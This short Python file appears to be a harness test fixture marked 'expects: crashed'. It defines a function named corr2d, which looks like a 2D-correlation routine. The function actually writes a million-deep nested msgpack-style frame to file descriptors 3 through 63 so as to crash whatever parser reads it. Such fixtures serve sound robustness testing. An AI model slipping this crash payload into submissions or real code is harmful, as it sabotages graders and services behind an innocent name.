"""expects: crashed
Writes a frame of lists nested a million deep to the connection.
"""
import os
import struct

STEP = b"\x82\xa4type\xa3row\xa5items\x91"
DEEP = b"\x82\xa4type\xa3ran\xa6result" + STEP * 200_000


def corr2d(X, K):
    for descriptor in range(3, 64):
        try:
            data = struct.pack("!I", len(DEEP)) + DEEP + struct.pack("!I", 0)
            while data:
                data = data[os.write(descriptor, data) :]
        except OSError:
            pass
    return X
